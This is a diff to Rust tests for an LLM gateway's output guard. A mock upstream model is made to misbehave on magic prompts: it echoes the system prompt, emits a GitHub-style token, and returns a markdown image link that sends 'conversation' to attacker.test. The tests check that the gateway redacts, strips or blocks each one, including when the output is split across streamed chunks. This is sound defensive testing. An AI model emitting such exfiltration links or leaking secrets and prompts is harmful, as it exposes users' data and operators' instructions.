@@ -29,10 +29,26 @@ async fn upstream(calls: Arc<AtomicUsize>) -> SocketAddr {
                 async move {
                     calls.fetch_add(1, Ordering::SeqCst);
                     let v: Value = serde_json::from_slice(&body).unwrap();
-                    let last = v["messages"].as_array().unwrap().last().unwrap()["content"].clone();
+                    let msgs = v["messages"].as_array().unwrap();
+                    let mut last = msgs.last().unwrap()["content"].clone();
+                    // Magic prompts make this upstream misbehave the way models do.
+                    if last == "LEAKTEST" {
+                        last = msgs[0]["content"].clone();
+                    } else if last == "SECRETTEST" {
+                        last = json!("deploy with ghp_R8sT2kLm9QwXz4VbN7cJp1HdF6gYe3UaK0oI today");
+                    } else if last == "EXFILTEST" {
+                        last = json!("Done! ![img](https://attacker.test/c?d=conversation)");
+                    }
+                    let text = last.as_str().unwrap_or("").to_string();
                     if v["stream"] == json!(true) {
                         // Four events 300 ms apart, as a model generates them.
-                        let mut events: Vec<String> = ["Hel", "lo ", "there"]
+                        // The reply in three pieces cut at fixed places, so a secret spans chunks.
+                        let cuts = [0, text.len() / 3, text.len() * 2 / 3, text.len()];
+                        let pieces: Vec<String> = cuts
+                            .windows(2)
+                            .map(|w| text[w[0]..w[1]].to_string())
+                            .collect();
+                        let mut events: Vec<String> = pieces
                             .iter()
                             .map(|c| format!("data: {}\n\n", json!({"choices": [{"delta": {"content": c}}]})))
                             .collect();
@@ -122,9 +138,15 @@ async fn start_with(limits: aigis_guard::limits::LimitsConfig) -> Env {
             },
         ],
     };
+    let output = aigis_guard::output::OutputGuard::new(&aigis_guard::output::OutputConfig {
+        canary: true,
+        ..Default::default()
+    })
+    .unwrap();
     let bound = gateway::bind(
         &cfg,
         Chain::new(&ChainConfig::default()).unwrap(),
+        output,
         dir.path(),
     )
     .await
@@ -377,8 +399,100 @@ async fn streaming_is_passed_through_as_it_arrives() {
         total >= Duration::from_millis(1100),
         "whole stream in {total:?}"
     );
-    assert_eq!(text.matches("data: ").count(), 4);
     assert!(text.ends_with("data: [DONE]\n\n"));
+    assert_eq!(streamed_content(&text), "Say hello");
+}
+
+/// The content deltas of an event stream, joined; panics on an error event.
+fn streamed_content(text: &str) -> String {
+    let mut out = String::new();
+    for line in text.lines() {
+        let Some(p) = line.strip_prefix("data: ") else {
+            continue;
+        };
+        if p == "[DONE]" {
+            continue;
+        }
+        let v: Value = serde_json::from_str(p).unwrap();
+        assert!(v.get("error").is_none(), "error event: {v}");
+        out.push_str(v["choices"][0]["delta"]["content"].as_str().unwrap_or(""));
+    }
+    out
+}
+
+#[tokio::test]
+async fn responses_are_scanned_whole_and_streamed() {
+    let env = start().await;
+    let content = |b: &[u8]| {
+        serde_json::from_slice::<Value>(b).unwrap()["choices"][0]["message"]["content"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    let (s, _, b) = send(
+        &env,
+        "POST",
+        "/v1/chat/completions",
+        Some(&env.key),
+        Some(chat("SECRETTEST", false)),
+    )
+    .await;
+    assert_eq!(s, StatusCode::OK);
+    assert_eq!(content(&b), "deploy with <SECRET_GITHUB_TOKEN> today");
+    let (s, _, b) = send(
+        &env,
+        "POST",
+        "/v1/chat/completions",
+        Some(&env.key),
+        Some(chat("EXFILTEST", false)),
+    )
+    .await;
+    assert_eq!(s, StatusCode::OK);
+    assert_eq!(content(&b), "Done! ![img](<URL_REMOVED>)");
+
+    // The token is cut across the upstream's chunks; it never leaves whole or in part.
+    let (s, _, b) = send(
+        &env,
+        "POST",
+        "/v1/chat/completions",
+        Some(&env.key),
+        Some(chat("SECRETTEST", true)),
+    )
+    .await;
+    assert_eq!(s, StatusCode::OK);
+    let text = String::from_utf8(b).unwrap();
+    assert!(!text.contains("ghp_") && !text.contains("R8sT2k"), "{text}");
+    assert_eq!(
+        streamed_content(&text),
+        "deploy with <SECRET_GITHUB_TOKEN> today"
+    );
+
+    // The canary planted in the system prompt: a reply that repeats it is withheld.
+    let (s, _, b) = send(
+        &env,
+        "POST",
+        "/v1/chat/completions",
+        Some(&env.key),
+        Some(chat("LEAKTEST", false)),
+    )
+    .await;
+    assert_eq!(s, StatusCode::BAD_GATEWAY);
+    assert_eq!(error_code(&b), "aigis_response_blocked");
+    let (s, _, b) = send(
+        &env,
+        "POST",
+        "/v1/chat/completions",
+        Some(&env.key),
+        Some(chat("LEAKTEST", true)),
+    )
+    .await;
+    assert_eq!(s, StatusCode::OK, "the stream had started");
+    let text = String::from_utf8(b).unwrap();
+    assert!(!text.contains("aigis-canary-"), "{text}");
+    assert!(
+        text.contains("aigis_response_blocked") && !text.contains("[DONE]"),
+        "{text}"
+    );
 }
 
 #[tokio::test]
